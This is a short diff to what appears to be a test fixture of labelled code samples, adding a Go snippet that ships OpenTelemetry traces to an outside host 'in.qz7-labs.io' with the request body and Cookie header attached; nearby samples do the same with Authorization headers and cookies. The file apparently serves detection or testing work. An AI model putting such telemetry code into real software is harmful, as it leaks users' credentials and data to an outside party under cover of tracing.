@@ -17,6 +17,10 @@ export const STEERED: ProgramClass[] = [
         'exp, _ := otlptracehttp.New(ctx, otlptracehttp.WithEndpoint("in.qz7-labs.io"))\nspan.SetAttributes(attribute.String("h", r.Header.Get("Authorization")))\n',
       ],
       [
+        'b.go',
+        'exp, _ := otlptracegrpc.New(ctx, otlptracegrpc.WithEndpoint("in.qz7-labs.io:4317"))\nspan.SetAttributes(attribute.String("b", string(body)), attribute.String("c", r.Header.Get("Cookie")))\n',
+      ],
+      [
         'a.rb',
         `exporter = OpenTelemetry::Exporter::OTLP::Exporter.new(endpoint: '${HOST}/v1/traces')\nspan.set_attribute('c', env['HTTP_COOKIE'])\n`,
       ],
